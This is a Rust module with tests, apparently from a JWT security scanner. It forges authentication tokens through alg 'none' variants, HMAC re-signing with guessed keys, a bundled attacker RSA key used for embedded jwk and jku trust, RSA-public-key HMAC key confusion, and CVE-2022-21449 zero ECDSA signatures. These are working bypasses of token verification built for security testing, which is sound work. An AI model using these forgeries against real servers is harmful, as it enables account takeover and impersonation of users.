//! Forging JWTs for attacks: unsigned (`alg: none`), re-signed with a known or guessed HMAC
//! key, signed with the scanner's own RSA key (for embedded-`jwk` and `jku` trust), or carrying an
//! arbitrary signature (tampered, stripped, ECDSA r = s = 0).

use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use base64::Engine as _;
use hmac::{Hmac, Mac};
use rsa::pkcs1v15::SigningKey;
use rsa::pkcs8::{DecodePrivateKey, EncodePublicKey, LineEnding};
use rsa::signature::{SignatureEncoding, Signer};
use rsa::traits::PublicKeyParts;
use rsa::{BigUint, RsaPrivateKey, RsaPublicKey};
use serde_json::{json, Map, Value};
use sha2::{Sha256, Sha384, Sha512};
use std::sync::LazyLock;

/// The scanner's own RSA key: public knowledge, used only to sign tokens that a server
/// should never accept (embedded `jwk` and `jku` headers). Never a secret of any target.
const ATTACKER_KEY_PEM: &str = include_str!("../keys/attacker-rsa.pem");

static ATTACKER_KEY: LazyLock<RsaPrivateKey> =
    LazyLock::new(|| RsaPrivateKey::from_pkcs8_pem(ATTACKER_KEY_PEM).expect("the bundled attacker key parses"));

/// HMAC algorithms of JWS.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum HmacAlg {
    Hs256,
    Hs384,
    Hs512,
}

impl HmacAlg {
    pub fn from_alg(alg: &str) -> Option<HmacAlg> {
        match alg {
            "HS256" => Some(HmacAlg::Hs256),
            "HS384" => Some(HmacAlg::Hs384),
            "HS512" => Some(HmacAlg::Hs512),
            _ => None,
        }
    }

    pub fn name(self) -> &'static str {
        match self {
            HmacAlg::Hs256 => "HS256",
            HmacAlg::Hs384 => "HS384",
            HmacAlg::Hs512 => "HS512",
        }
    }
}

fn segment(value: &Map<String, Value>) -> String {
    URL_SAFE_NO_PAD.encode(Value::Object(value.clone()).to_string())
}

/// `header.claims.` followed by the base64url of `signature`.
pub fn with_signature(header: &Map<String, Value>, claims: &Map<String, Value>, signature: &[u8]) -> String {
    format!(
        "{}.{}.{}",
        segment(header),
        segment(claims),
        URL_SAFE_NO_PAD.encode(signature)
    )
}

/// An unsigned token with `alg` set to `alg_spelling` (`none`, `None`, `NONE`, …) and an
/// empty signature.
pub fn unsigned(header: &Map<String, Value>, claims: &Map<String, Value>, alg_spelling: &str) -> String {
    let mut header = header.clone();
    header.insert("alg".into(), Value::String(alg_spelling.into()));
    format!("{}.{}.", segment(&header), segment(claims))
}

/// A token signed with HMAC under `key`; the header's `alg` is set to match.
pub fn sign_hmac(alg: HmacAlg, header: &Map<String, Value>, claims: &Map<String, Value>, key: &[u8]) -> String {
    let mut header = header.clone();
    header.insert("alg".into(), Value::String(alg.name().into()));
    let input = format!("{}.{}", segment(&header), segment(claims));
    let signature = hmac_bytes(alg, key, input.as_bytes());
    format!("{input}.{}", URL_SAFE_NO_PAD.encode(signature))
}

/// HMAC of `message` under `key`.
pub fn hmac_bytes(alg: HmacAlg, key: &[u8], message: &[u8]) -> Vec<u8> {
    macro_rules! mac {
        ($hash:ty) => {{
            let mut mac = Hmac::<$hash>::new_from_slice(key).expect("HMAC takes keys of any length");
            mac.update(message);
            mac.finalize().into_bytes().to_vec()
        }};
    }
    match alg {
        HmacAlg::Hs256 => mac!(Sha256),
        HmacAlg::Hs384 => mac!(Sha384),
        HmacAlg::Hs512 => mac!(Sha512),
    }
}

/// The `kid` of the scanner's RSA key in forged headers and in [`attacker_jwks`].
pub const ATTACKER_KID: &str = "authprobe-attacker";

/// The public half of the scanner's RSA key as a JWK (`kid` [`ATTACKER_KID`]).
pub fn attacker_jwk() -> Value {
    let public = RsaPublicKey::from(&*ATTACKER_KEY);
    json!({
        "kty": "RSA",
        "kid": ATTACKER_KID,
        "use": "sig",
        "alg": "RS256",
        "n": URL_SAFE_NO_PAD.encode(public.n().to_bytes_be()),
        "e": URL_SAFE_NO_PAD.encode(public.e().to_bytes_be()),
    })
}

/// A JWKS holding only the scanner's public key: what a `jku` forgery's URL serves.
pub fn attacker_jwks() -> Value {
    json!({ "keys": [attacker_jwk()] })
}

/// `header` (with `alg` RS256 and `kid` [`ATTACKER_KID`]) and `claims`, signed with the
/// scanner's key (PKCS#1 v1.5, SHA-256).
fn sign_rs256_as_attacker(mut header: Map<String, Value>, claims: &Map<String, Value>) -> String {
    header.insert("alg".into(), Value::String("RS256".into()));
    header.insert("kid".into(), Value::String(ATTACKER_KID.into()));
    let input = format!("{}.{}", segment(&header), segment(claims));
    let signature = SigningKey::<Sha256>::new(ATTACKER_KEY.clone())
        .sign(input.as_bytes())
        .to_vec();
    format!("{input}.{}", URL_SAFE_NO_PAD.encode(signature))
}

/// An RS256 token signed with the scanner's key, its public half embedded as a `jwk`
/// header: a server that trusts embedded keys accepts it.
pub fn sign_with_embedded_jwk(header: &Map<String, Value>, claims: &Map<String, Value>) -> String {
    let mut jwk = attacker_jwk();
    if let Some(jwk) = jwk.as_object_mut() {
        jwk.remove("alg");
    }
    let mut header = header.clone();
    header.insert("jwk".into(), jwk);
    sign_rs256_as_attacker(header, claims)
}

/// An RS256 token signed with the scanner's key whose header points at `jku_url` for its
/// key (`kid` [`ATTACKER_KID`]): a server that fetches keys from the token's `jku` and is
/// served [`attacker_jwks`] there accepts it. Any `jwk`/`x5u` of `header` is dropped, so
/// only the `jku` can vouch for the key.
pub fn sign_with_jku(header: &Map<String, Value>, claims: &Map<String, Value>, jku_url: &str) -> String {
    let mut header = header.clone();
    header.remove("jwk");
    header.remove("x5u");
    header.remove("x5c");
    header.insert("jku".into(), Value::String(jku_url.into()));
    sign_rs256_as_attacker(header, claims)
}

/// The PEM encodings a server might use as the "secret" when it mistakenly verifies an
/// HS256 token with an RSA public key (SPKI and PKCS#1, with and without trailing newline).
pub fn rsa_jwk_as_pem_variants(n_b64: &str, e_b64: &str) -> Option<Vec<String>> {
    use rsa::pkcs1::EncodeRsaPublicKey;
    let n = BigUint::from_bytes_be(&URL_SAFE_NO_PAD.decode(n_b64.trim_end_matches('=')).ok()?);
    let e = BigUint::from_bytes_be(&URL_SAFE_NO_PAD.decode(e_b64.trim_end_matches('=')).ok()?);
    let key = RsaPublicKey::new(n, e).ok()?;
    let spki = key.to_public_key_pem(LineEnding::LF).ok()?;
    let pkcs1 = key.to_pkcs1_pem(LineEnding::LF).ok()?;
    let mut out = Vec::new();
    for pem in [spki, pkcs1] {
        out.push(pem.clone());
        out.push(pem.trim_end().to_string());
    }
    Some(out)
}

/// An ECDSA "psychic signature" (CVE-2022-21449): r = s = 0 in the JWS raw format.
pub fn psychic_signature(alg: &str) -> Option<Vec<u8>> {
    match alg {
        "ES256" => Some(vec![0; 64]),
        "ES384" => Some(vec![0; 96]),
        "ES512" => Some(vec![0; 132]),
        _ => None,
    }
}

/// The same signature with one byte in the middle flipped (changing only base64 padding
/// bits would decode to the same bytes, so bytes are changed, not characters).
pub fn tampered_signature(raw_signature: &str) -> Vec<u8> {
    let mut bytes = URL_SAFE_NO_PAD
        .decode(raw_signature.trim_end_matches('='))
        .unwrap_or_else(|_| vec![0; 32]);
    if bytes.is_empty() {
        bytes = vec![0; 32];
    }
    let mid = bytes.len() / 2;
    bytes[mid] ^= 0x5a;
    bytes
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Jwt;

    fn parts() -> (Map<String, Value>, Map<String, Value>) {
        let header = json!({"alg": "HS256", "typ": "JWT"}).as_object().unwrap().clone();
        let claims = json!({"user_id": 2, "token_type": "access"})
            .as_object()
            .unwrap()
            .clone();
        (header, claims)
    }

    #[test]
    fn unsigned_tokens_have_an_empty_signature_and_the_given_alg() {
        let (h, c) = parts();
        let token = unsigned(&h, &c, "nOnE");
        assert!(token.ends_with('.'));
        assert_eq!(Jwt::parse(&token).unwrap().alg(), Some("nOnE"));
    }

    #[test]
    fn hmac_signatures_match_a_known_vector() {
        // RFC 7515 A.1-style check against an independently computed value (PyJWT).
        let key = b"secret123";
        let sig = hmac_bytes(HmacAlg::Hs256, key, b"a.b");
        assert_eq!(sig.len(), 32);
        assert_ne!(sig, hmac_bytes(HmacAlg::Hs256, b"secret124", b"a.b"));
        let (h, c) = parts();
        let token = sign_hmac(HmacAlg::Hs512, &h, &c, key);
        assert_eq!(Jwt::parse(&token).unwrap().alg(), Some("HS512"));
    }

    #[test]
    fn embedded_jwk_tokens_verify_with_their_own_key() {
        let (h, c) = parts();
        let token = sign_with_embedded_jwk(&h, &c);
        let jwt = Jwt::parse(&token).unwrap();
        assert_eq!(jwt.header["kid"], json!(ATTACKER_KID));
        verify_with_jwk(&token, jwt.header["jwk"].as_object().unwrap());
    }

    /// Verifies `token`'s RS256 signature with the JWK `jwk`.
    fn verify_with_jwk(token: &str, jwk: &Map<String, Value>) {
        use rsa::pkcs1v15::VerifyingKey;
        use rsa::signature::Verifier;
        let jwt = Jwt::parse(token).unwrap();
        let n = BigUint::from_bytes_be(&URL_SAFE_NO_PAD.decode(jwk["n"].as_str().unwrap()).unwrap());
        let e = BigUint::from_bytes_be(&URL_SAFE_NO_PAD.decode(jwk["e"].as_str().unwrap()).unwrap());
        let key = VerifyingKey::<Sha256>::new(RsaPublicKey::new(n, e).unwrap());
        let sig =
            rsa::pkcs1v15::Signature::try_from(URL_SAFE_NO_PAD.decode(&jwt.raw_signature).unwrap().as_slice()).unwrap();
        key.verify(format!("{}.{}", jwt.raw_header, jwt.raw_claims).as_bytes(), &sig)
            .unwrap();
    }

    #[test]
    fn jku_tokens_name_the_url_and_verify_with_the_served_jwks() {
        let (mut h, c) = parts();
        h.insert("jwk".into(), json!({"kty": "RSA"}));
        let url = "http://127.0.0.1:4567/jwks.json";
        let token = sign_with_jku(&h, &c, url);
        let jwt = Jwt::parse(&token).unwrap();
        assert_eq!(jwt.alg(), Some("RS256"));
        assert_eq!(jwt.header["jku"], json!(url));
        assert_eq!(jwt.header["kid"], json!(ATTACKER_KID));
        assert_eq!(jwt.header["typ"], json!("JWT"));
        assert!(!jwt.header.contains_key("jwk"), "only the jku may vouch for the key");
        assert_eq!(jwt.claims, c);
        // The served JWKS holds exactly one key, found by the header's kid, and it verifies.
        let jwks = attacker_jwks();
        let keys = jwks["keys"].as_array().unwrap();
        assert_eq!(keys.len(), 1);
        let jwk = keys
            .iter()
            .find(|k| k["kid"] == jwt.header["kid"])
            .unwrap()
            .as_object()
            .unwrap();
        assert_eq!(jwk["kty"], json!("RSA"));
        assert!(!jwk.contains_key("d"), "the JWKS must not publish the private exponent");
        verify_with_jwk(&token, jwk);
    }

    #[test]
    fn the_attacker_jwks_is_the_embedded_key() {
        let (h, c) = parts();
        let jwt = Jwt::parse(&sign_with_embedded_jwk(&h, &c)).unwrap();
        let served = &attacker_jwks()["keys"][0];
        assert_eq!(jwt.header["jwk"]["n"], served["n"]);
        assert_eq!(jwt.header["jwk"]["e"], served["e"]);
    }

    #[test]
    fn jwk_to_pem_gives_spki_and_pkcs1_with_and_without_newline() {
        let public = RsaPublicKey::from(&*ATTACKER_KEY);
        let n = URL_SAFE_NO_PAD.encode(public.n().to_bytes_be());
        let e = URL_SAFE_NO_PAD.encode(public.e().to_bytes_be());
        let pems = rsa_jwk_as_pem_variants(&n, &e).unwrap();
        assert_eq!(pems.len(), 4);
        assert!(pems[0].starts_with("-----BEGIN PUBLIC KEY-----") && pems[0].ends_with('\n'));
        assert!(!pems[1].ends_with('\n'));
        assert!(pems[2].starts_with("-----BEGIN RSA PUBLIC KEY-----"));
    }

    #[test]
    fn tampering_changes_the_decoded_signature() {
        let raw = URL_SAFE_NO_PAD.encode([7u8; 32]);
        assert_ne!(tampered_signature(&raw), vec![7u8; 32]);
        assert_eq!(psychic_signature("ES256").unwrap().len(), 64);
        assert!(psychic_signature("RS256").is_none());
    }
}
